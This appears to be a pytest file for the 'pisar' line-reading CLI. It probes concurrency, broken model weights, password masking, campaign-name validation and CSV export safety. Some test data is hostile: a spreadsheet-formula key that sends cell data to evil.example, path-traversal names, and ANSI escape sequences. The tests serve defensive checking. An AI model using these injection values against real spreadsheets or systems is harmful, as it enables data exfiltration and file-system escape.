"""A careless or hostile operator's probes (issue 26), replayed against the real services so they keep holding.

What this file tries, each against a fresh catalog: two `pisar run` started together (a new SQLite
catalog, one campaign; a new Postgres catalog), models that half-load, a sentinel password in every
form a URL can carry it, campaign names that are paths or escape sequences, spreadsheet formulas
as keys, an empty reading that never ends, and the first stumbles of a new user.

The probes that held when the issue was filed are kept where they live, and are part of this replay:
hostile images, bombs and odd formats (``test_images.py``, ``test_worker_faults.py``
``test_hostile_files_mixed_into_a_campaign...``); hostile keys and names in every export
(``test_keys_as_data.py``, ``test_exports.py``); XXE and entity expansion in layouts
(``test_layout.py::test_external_entities_and_dtds_are_never_resolved``); images outside the source
(``test_page_lines.py``, ``test_review.py``); Flower's password on every route (``test_flower.py``);
Ctrl-C and resume (``test_retry.py``, ``test_listing.py``); a killed worker's shard coming back with and
without `pisar feed` (``test_worker_faults.py``); unknown retry selectors (``test_retry.py``).
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from infra.local_services import free_port, port_open, start_redis, throwaway_database, wait_for
from tests.helpers.cli import PISAR, assert_one_line_error, read_jsonl, run_pisar, wait_until
from tests.helpers.paths import lines_folder

SENTINEL = "Sentinel7Pw"  # planted as a password; must never appear in anything the tools print or serve


def start_pisar(args: list[str], env: dict[str, str], cwd: Path | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen([PISAR, *args], env=env, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def finish(proc: subprocess.Popen[str], timeout: float = 300) -> tuple[int, str]:
    _, stderr = proc.communicate(timeout=timeout)
    return proc.returncode, stderr


# --- 1, 2: two runs at once -------------------------------------------------------------------


@pytest.mark.slow
def test_two_runs_at_once_on_a_new_sqlite_catalog_both_write_every_line(
    embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """Two runs of one campaign and a third of another start together on a catalog that does not exist yet:
    one migrates while the others wait; one lists the shared campaign while the other waits for its
    listing; both read, each waiting for the shards the other holds; every output is whole."""
    source = lines_folder(tmp_path, print_lines, 12)
    runs = {
        out: start_pisar(
            ["run", str(source), "--model", str(tiny_model), "--name", name, "-o", str(tmp_path / out), "--shard-size", "2"], env
        )
        for out, name, env in (
            ("a.jsonl", "same", embedded_env),
            ("b.jsonl", "same", embedded_env),
            ("c.jsonl", "other", embedded_env),
        )
    }
    for out, proc in runs.items():
        code, stderr = finish(proc)
        assert code == 0 and "Traceback" not in stderr, (out, stderr)
        keys = [r["key"] for r in read_jsonl(tmp_path / out)]
        assert keys == sorted(p.name for p in source.iterdir()), out  # every line once, whoever read it
    status = json.loads(run_pisar(["status", "same", "--json"], embedded_env).stdout)
    assert status["lines"] == {"pending": 0, "ok": 12, "error": 0} and status["shards"]["done"] == 6


@pytest.mark.slow
def test_two_runs_at_once_on_a_new_postgres_catalog(
    embedded_env: dict[str, str], postgres_server, tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """Two `pisar db upgrade` at once on an empty database (one waits on the migration lock), then two
    `pisar run` of one campaign at once against it (the listing's advisory lock, then the leases)."""
    source = lines_folder(tmp_path, print_lines, 10)
    with throwaway_database(postgres_server, migrate=False) as url:
        env = {**embedded_env, "PISAR_DATABASE_URL": url}
        upgrades = [start_pisar(["db", "upgrade"], env) for _ in range(2)]
        for proc in upgrades:
            code, stderr = finish(proc)
            assert code == 0 and "Traceback" not in stderr, stderr
        args = ["run", str(source), "--model", str(tiny_model), "--name", "pg", "--shard-size", "2"]
        runs = [start_pisar([*args, "-o", str(tmp_path / f"{n}.jsonl")], env) for n in ("a", "b")]
        for n, proc in zip("ab", runs, strict=True):
            code, stderr = finish(proc)
            assert code == 0, stderr
            assert len({r["key"] for r in read_jsonl(tmp_path / f"{n}.jsonl")}) == 10


# --- 3: a model that half-loads ---------------------------------------------------------------


def broken_copy(model: Path, where: Path, how: str) -> Path:
    """``model`` copied, its weights damaged ``how``: truncated, corrupt, missing a tensor, or one of the wrong shape."""
    from safetensors.numpy import load_file, save_file

    folder = Path(shutil.copytree(model, where / how))
    weights = folder / "model.safetensors"
    if how == "truncated":
        weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 3])
    elif how == "corrupt":
        weights.write_bytes(b"\xff" * 8 + weights.read_bytes()[8:])
    else:
        tensors = load_file(weights)
        name = sorted(k for k in tensors if k.endswith(".weight") and tensors[k].ndim == 2 and ".layers." in k)[0]
        if how == "missing":
            del tensors[name]
        else:
            tensors[name] = tensors[name][:, :-1].copy()
        save_file(tensors, weights, metadata={"format": "pt"})
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("how", ["truncated", "corrupt", "missing", "shape"])
def test_a_model_that_will_not_load_is_the_nodes_fault(
    how: str, embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """Exit code 3, one line saying why, the shard given back with its attempt refunded: nothing failed
    or quarantined, and the same campaign reads whole once the model is mended."""
    model = broken_copy(tiny_model, tmp_path, how)
    source = lines_folder(tmp_path, print_lines, 4)
    out = tmp_path / "r.jsonl"
    ran = run_pisar(["run", str(source), "--model", str(model), "--name", "m", "-o", str(out)], embedded_env)
    assert ran.returncode == 3, ran.stderr
    said = [line for line in ran.stderr.splitlines() if line.startswith("pisar: error:")]
    assert len(said) == 1 and f"cannot load model {model}" in said[0] and "Traceback" not in ran.stderr, ran.stderr
    status = json.loads(run_pisar(["status", "m", "--json"], embedded_env).stdout)
    assert status["shards"].get("failed", 0) == status["shards"].get("quarantined", 0) == 0, status
    assert status["lines"] == {"pending": 4, "ok": 0, "error": 0} and not status["shard_errors"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("how", "said"), [("truncated", "SafetensorError"), ("corrupt", "SafetensorError"), ("shape", "of the wrong shape")]
)
def test_a_worker_whose_model_will_not_load_gives_its_shard_back_and_exits_3(
    how: str, said: str, s3, distributed_env, start_worker, tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """The same under `pisar worker`, with no preload: the first shard's load fails, the shard goes back
    queued with its attempt refunded, the worker stops consuming and exits 3."""
    from sqlalchemy import create_engine, text

    from tests.helpers.s3 import upload

    model = broken_copy(tiny_model, tmp_path, how)
    bucket = f"halfload-{how}"
    s3.create_bucket(Bucket=bucket)
    upload(s3, bucket, {f"v/{p.name}": p.read_bytes() for p in sorted(print_lines.glob("*.png"))[:6]})
    submitted = run_pisar(["submit", f"s3://{bucket}/v", "--model", str(model), "--name", "halfload", "--shard-size", "3"], distributed_env)
    assert submitted.returncode == 0, submitted.stderr
    worker = start_worker(distributed_env, "halfload")
    assert worker.wait(timeout=90) == 3
    log = (tmp_path / "halfload.log").read_text(encoding="utf-8")
    assert "cannot load model" in log and said in log and "halfload shard 0" in log, log[-3000:]
    with create_engine(distributed_env["PISAR_DATABASE_URL"]).connect() as conn:
        rows = conn.execute(text("SELECT state, attempts FROM shard ORDER BY index")).all()
    assert [tuple(r) for r in rows] == [("queued", 0), ("queued", 0)]


# --- 4: secrets -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("PISAR_DATABASE_URL", f"postgresql://127.0.0.1:1/db?password={SENTINEL}"),
        ("PISAR_DATABASE_URL", f"postgresql://u:{SENTINEL}/x@127.0.0.1:1/db"),
        ("PISAR_DATABASE_URL", f"postgresql://u:{SENTINEL}@x@127.0.0.1:1/db"),
        ("PISAR_DATABASE_URL", f"u:{SENTINEL}@127.0.0.1"),
        ("PISAR_DATABASE_URL", f"postgresql://u:{SENTINEL}@[::1/db"),
        ("PISAR_DATABASE_URL", f"postgresql://u:{SENTINEL}@127.0.0.1:1/db?sslpassword={SENTINEL}"),
        ("PISAR_REDIS_URL", f"redis://:{SENTINEL}/x@127.0.0.1:1/0"),
        ("PISAR_REDIS_URL", f"u:{SENTINEL}@127.0.0.1"),
        ("PISAR_REDIS_URL", f"redis://127.0.0.1:1/0?password={SENTINEL}"),
        ("PISAR_REDIS_URL", f"redis://:{SENTINEL}@127.0.0.1:notaport/0"),
        ("PISAR_FLOWER_BASIC_AUTH", f"{SENTINEL}"),
    ],
)
def test_a_password_in_any_url_form_is_never_printed(embedded_env: dict[str, str], variable: str, value: str) -> None:
    """Refused or unreachable, in every command that reads the setting: one line, the password masked."""
    commands = {"PISAR_DATABASE_URL": [["status", "x"]], "PISAR_REDIS_URL": [["worker"]], "PISAR_FLOWER_BASIC_AUTH": [["flower"]]}[variable]
    env = {**embedded_env, variable: value, "PISAR_REDIS_URL": embedded_env.get("PISAR_REDIS_URL", "redis://127.0.0.1:1/0")}
    env[variable] = value
    for command in commands:
        done = run_pisar(command, env, timeout=60)
        assert done.returncode != 0, (command, done.stderr)
        assert SENTINEL not in done.stdout + done.stderr, (command, done.stderr)
        assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1, (command, done.stderr)


@pytest.mark.slow
def test_a_working_deployment_never_shows_its_passwords(
    s3, distributed_env, start_worker, postgres_url: str, tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """Redis with a password, Postgres given one in the user part and as ``?password=`` (the machine's
    Postgres trusts loopback, so any password is accepted): a campaign runs, and nothing the CLI
    prints, the worker logs, or Flower serves on any page holds the password."""
    from tests.helpers.flower import flower_pages
    from tests.helpers.s3 import upload

    redis = start_redis(tmp_path / "redis", password=SENTINEL)
    try:
        user_form = postgres_url.replace("://postgres@", f"://postgres:{SENTINEL}@")
        assert SENTINEL in user_form
        query_form = f"{postgres_url}?password={SENTINEL}"
        env = {
            **distributed_env,
            "PISAR_REDIS_URL": redis.url,
            "PISAR_DATABASE_URL": user_form,
            "PISAR_FLOWER_BASIC_AUTH": "ops:open sesame",
        }
        s3.create_bucket(Bucket="secret")
        upload(s3, "secret", {f"v/{p.name}": p.read_bytes() for p in sorted(print_lines.glob("*.png"))[:4]})
        said = []
        for args in (
            ["submit", "s3://secret/v", "--model", str(tiny_model), "--name", "secret", "--shard-size", "2"],
            ["status", "secret"],
            ["status", "secret", "--json"],
        ):
            done = run_pisar(args, env)
            assert done.returncode == 0, done.stderr
            said.append(done.stdout + done.stderr)
        start_worker({**env, "PISAR_DATABASE_URL": query_form}, "keeper")
        port = free_port()
        flower = subprocess.Popen(
            [PISAR, "flower", f"--port={port}"], env=env, stdout=(tmp_path / "flower.log").open("w"), stderr=subprocess.STDOUT
        )
        try:
            wait_for(lambda: port_open(port), "flower", 60, flower)
            status = lambda: json.loads(run_pisar(["status", "secret", "--json"], env).stdout)
            wait_until(lambda: status()["lines"]["ok"] == 4, 120, "the campaign to be read")
            pages = flower_pages(f"http://127.0.0.1:{port}", "ops:open sesame", worker_prefix="keeper@")
        finally:
            flower.terminate()
            flower.wait(timeout=20)
        said.append(run_pisar(["export", "secret"], env).stdout)
        worker_log = (tmp_path / "keeper.log").read_text(encoding="utf-8")
        assert "secret shard 0 done" in worker_log or "secret shard 1 done" in worker_log, worker_log[-2000:]  # shards by their index
        for where, text in [*zip(("submit", "status", "status --json", "export"), said, strict=True), ("worker log", worker_log)]:
            assert SENTINEL not in text, where
        for path, body in pages.items():
            assert SENTINEL not in body, path
        assert SENTINEL not in (tmp_path / "flower.log").read_text(encoding="utf-8")
        assert all(pages[path].startswith("200 ") for path in ("/broker", "/api/workers?refresh=1", "/tasks")), {
            p: b[:80] for p, b in pages.items()
        }
        assert any(
            path.startswith("/worker/keeper") and body.startswith("200 ") for path, body in pages.items()
        )  # its config shown, masked
    finally:
        redis.stop()


# --- 5: names ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("", "is empty"),
        ("../../../x", "has characters a name may not hold"),
        ("a" * 5000, "has 5000 characters"),
        ("vol\x1b[31m-red", "has characters a name may not hold"),
        ("-flag-like", "has characters a name may not hold"),
    ],
)
def test_a_campaign_name_is_checked_before_anything_is_made(
    name: str, why: str, embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    done = run_pisar(["run", str(print_lines), "--model", str(tiny_model), "--name", name, "-o", str(tmp_path / "r.jsonl")], embedded_env)
    assert_one_line_error(done, why)
    assert "\x1b" not in done.stderr and not Path(embedded_env["PISAR_CATALOG_PATH"]).exists()


def test_names_in_other_scripts_are_fine_and_a_default_name_is_made_valid(tmp_path: Path) -> None:
    from pisar.names import check_name, default_name

    assert check_name("фонд-1.опись_2") == "фонд-1.опись_2"
    assert default_name("s3://archive/fond 1/опись 2/") == "archive-fond-1-опись-2"
    assert default_name(str(tmp_path / "лист 7") + "/") == "лист-7"


@pytest.mark.slow
def test_an_old_catalogs_hostile_name_cannot_write_outside_the_working_folder(
    embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    """A catalog from before names were checked may hold any name: `review` still writes inside the
    working folder, and says where."""
    from sqlalchemy import create_engine, text

    source = lines_folder(tmp_path, print_lines, 3)
    ran = run_pisar(["run", str(source), "--model", str(tiny_model), "--name", "plain", "-o", str(tmp_path / "r.jsonl")], embedded_env)
    assert ran.returncode == 0, ran.stderr
    hostile = "../../../escaped\x1b[2J"
    with create_engine(f"sqlite:///{embedded_env['PISAR_CATALOG_PATH']}").begin() as conn:
        conn.execute(text("UPDATE campaign SET name = :n"), {"n": hostile})
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    reviewed = run_pisar(["review", hostile, "--sample", "2"], embedded_env, cwd=work)
    assert reviewed.returncode == 0, reviewed.stderr
    [made] = list(work.iterdir())
    assert made.name.startswith("review-") and (made / "corrections.csv").is_file()
    assert str(made / "index.html") in reviewed.stderr and "\x1b" not in reviewed.stderr
    assert not [p for p in tmp_path.rglob("*") if "escaped" in p.name and not p.is_relative_to(made)]  # nothing climbed out


# --- 6: spreadsheet formulas ------------------------------------------------------------------

FORMULA_KEYS = ['=HYPERLINK("https:evil.example?d="&A1,"ok").png', "+cmd.png", "-2+3.png", "@SUM(1).png", "'quoted.png", "\tTab.png"]


@pytest.mark.slow
def test_formula_keys_are_inert_in_every_csv_and_come_back_exact(
    embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    from pisar.csv_cells import neutralise, restore

    source = tmp_path / "lines"
    source.mkdir()
    for key, path in zip(FORMULA_KEYS, sorted(print_lines.glob("*.png")), strict=False):
        shutil.copy(path, source / key)
    results = tmp_path / "r.csv"
    ran = run_pisar(["run", str(source), "--model", str(tiny_model), "--name", "f", "-o", str(results)], embedded_env)
    assert ran.returncode == 0, ran.stderr
    for sheet in (results,):
        with sheet.open(encoding="utf-8", newline="") as handle:
            cells = [row["key"] for row in csv.DictReader(handle)]
        assert sorted(cells) == sorted(neutralise(k) for k in FORMULA_KEYS)
        assert all(cell[0] not in "=+-@\t\r" for cell in cells)  # no cell a spreadsheet would run
    review = tmp_path / "review"
    assert run_pisar(["review", "f", "--sample", "10", "-o", str(review)], embedded_env).returncode == 0
    sheet = review / "corrections.csv"
    with sheet.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert all(row["key"][0] not in "=+-@\t\r" for row in rows) and len(rows) == len(FORMULA_KEYS)
    with sheet.open("w", encoding="utf-8", newline="") as handle:  # a reviewer accepts every line
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**row, "status": "ok"} for row in rows)
    imported = run_pisar(["review-import", str(sheet)], embedded_env)
    assert imported.returncode == 0, imported.stderr
    written = sorted(p.name for p in (review / "groundtruth").iterdir() if not p.name.endswith(".gt.txt"))
    assert written == sorted(FORMULA_KEYS)  # each key read back exactly
    assert all(restore(neutralise(k)) == k for k in [*FORMULA_KEYS, "''", "'", "plain", "", "'=x"])


# --- 8: an empty reading that never ends ------------------------------------------------------


@pytest.fixture(scope="module")
def blank_model(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
    """The tiny model allowed only its padding token, and kept from ending: it runs to its token limit
    on tokens that decode to nothing."""
    folder = Path(shutil.copytree(tiny_model, tmp_path_factory.mktemp("model") / "blank"))
    config_path = folder / "generation_config.json"
    config = json.loads(config_path.read_text(encoding="utf-8"))
    vocabulary = len(json.loads((folder / "tokenizer.json").read_text(encoding="utf-8"))["model"]["vocab"])
    config.update(max_new_tokens=6, min_new_tokens=6, suppress_tokens=[i for i in range(vocabulary) if i != config["pad_token_id"]])
    config_path.write_text(json.dumps(config, indent=2), encoding="utf-8")
    return folder


@pytest.mark.slow
def test_an_empty_reading_that_never_ends_has_a_confidence(
    blank_model: Path, embedded_env: dict[str, str], print_lines: Path, tmp_path: Path
) -> None:
    source = lines_folder(tmp_path, print_lines, 3)
    out = tmp_path / "r.jsonl"
    ran = run_pisar(["run", str(source), "--model", str(blank_model), "--name", "blank", "-o", str(out)], embedded_env)
    assert ran.returncode == 0, ran.stderr
    records = read_jsonl(out)
    assert [(r["status"], r["text"], r["token_count"]) for r in records] == [("ok", "", 0)] * 3
    assert all(set(r["flags"].split(",")) >= {"max_length", "empty"} for r in records)
    assert all(0 < r["min_token_prob"] <= r["confidence"] <= 1 for r in records), records
    below = max(r["confidence"] for r in records) * 1.01
    picked = run_pisar(["retry", "blank", "--below-confidence", f"{min(below, 1):.6g}", "--dry-run"], embedded_env)
    assert "would re-run 3 lines" in picked.stderr, picked.stderr


# --- 11: first stumbles -----------------------------------------------------------------------


def test_a_missing_source_or_an_unwritable_output_is_refused_before_a_catalog_is_made(
    embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
) -> None:
    catalog = Path(embedded_env["PISAR_CATALOG_PATH"])
    assert_one_line_error(run_pisar(["run", str(tmp_path / "nope"), "--model", str(tiny_model)], embedded_env), "does not exist")
    (tmp_path / "a-file").write_text("")
    refused = run_pisar(["run", str(print_lines), "--model", str(tiny_model), "-o", str(tmp_path / "a-file" / "r.jsonl")], embedded_env)
    assert_one_line_error(refused, f"cannot write the output {tmp_path / 'a-file' / 'r.jsonl'}")
    assert not catalog.exists()


def test_a_folder_of_no_images_says_what_it_skipped(embedded_env: dict[str, str], tiny_model: Path, tmp_path: Path) -> None:
    source = tmp_path / "texts"
    source.mkdir()
    (source / "notes.txt").write_text("x")
    done = run_pisar(["run", str(source), "--model", str(tiny_model)], embedded_env)
    assert_one_line_error(done, "(skipped files: 1 .txt)")
    assert "{" not in done.stderr


def test_every_command_helps_with_examples_and_bare_pisar_shows_the_commands(embedded_env: dict[str, str]) -> None:
    bare = run_pisar([], embedded_env)
    assert bare.returncode == 2 and "error" not in bare.stderr and "Commands:" in bare.stderr and "run" in bare.stderr
    commands = [
        ["submit"],
        ["status"],
        ["resume"],
        ["retry"],
        ["export"],
        ["review"],
        ["review-import"],
        ["run"],
        ["eval"],
        ["worker"],
        ["feed"],
        ["metrics"],
        ["flower"],
        ["train"],
        ["db", "upgrade"],
    ]
    for command in commands:
        helped = run_pisar([*command, "--help"], embedded_env)
        assert helped.returncode == 0, command
        tail = helped.stdout.rstrip().rsplit("Examples:", 1)
        assert len(tail) == 2 and f"pisar {' '.join(command)}" in tail[1], (command, helped.stdout[-400:])
    metrics_help = run_pisar(["metrics", "--help"], embedded_env).stdout
    assert "127.0.0.1" in metrics_help  # loopback unless told otherwise, as Flower


def test_metrics_listens_on_loopback_by_default(embedded_env: dict[str, str], redis_service) -> None:
    port = free_port()
    proc = start_pisar(["metrics", "--port", str(port)], {**embedded_env, "PISAR_REDIS_URL": redis_service.url})
    try:
        wait_for(lambda: port_open(port), "pisar metrics", 60)
        listening = subprocess.run(["ss", "-ltnH", f"sport = :{port}"], capture_output=True, text=True).stdout
        assert f"127.0.0.1:{port}" in listening and f"0.0.0.0:{port}" not in listening, listening
    finally:
        proc.terminate()
        proc.wait(timeout=20)
